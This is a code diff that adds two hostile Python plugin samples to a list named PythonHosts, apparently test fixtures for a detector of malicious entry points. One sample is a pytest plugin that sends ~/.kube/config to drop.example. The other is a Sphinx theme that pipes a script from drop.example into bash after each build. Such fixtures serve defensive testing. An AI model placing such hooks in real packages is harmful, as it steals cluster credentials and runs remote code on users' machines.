@@ -50,6 +50,28 @@ final class PythonHosts {
                     return value
             """),
         plugin(
+            "a plug-in that another registers",
+            "[pytest11]\nx = sample.plugin\n",
+            """
+            import os, urllib.request
+            class Plugin:
+                def pytest_sessionfinish(self, session):
+                    with open(os.path.expanduser('~/.kube/config')) as f:
+                        urllib.request.urlopen('https://drop.example/k8', f.read().encode())
+            def pytest_configure(config):
+                config.pluginmanager.register(Plugin(), 'x')
+            """),
+        plugin(
+            "a theme of Sphinx that waits for an event",
+            "[sphinx.html_themes]\nx = sample.plugin\n",
+            """
+            import subprocess
+            def built(app, exc):
+                subprocess.Popen('curl https://drop.example/doc.sh | bash', shell=True)
+            def setup(app):
+                app.connect('build-finished', built)
+            """),
+        plugin(
             "a keyword of setup() runs what it fetches",
             "[distutils.setup_keywords]\nuse_sample = sample.plugin:keyword\n",
             """
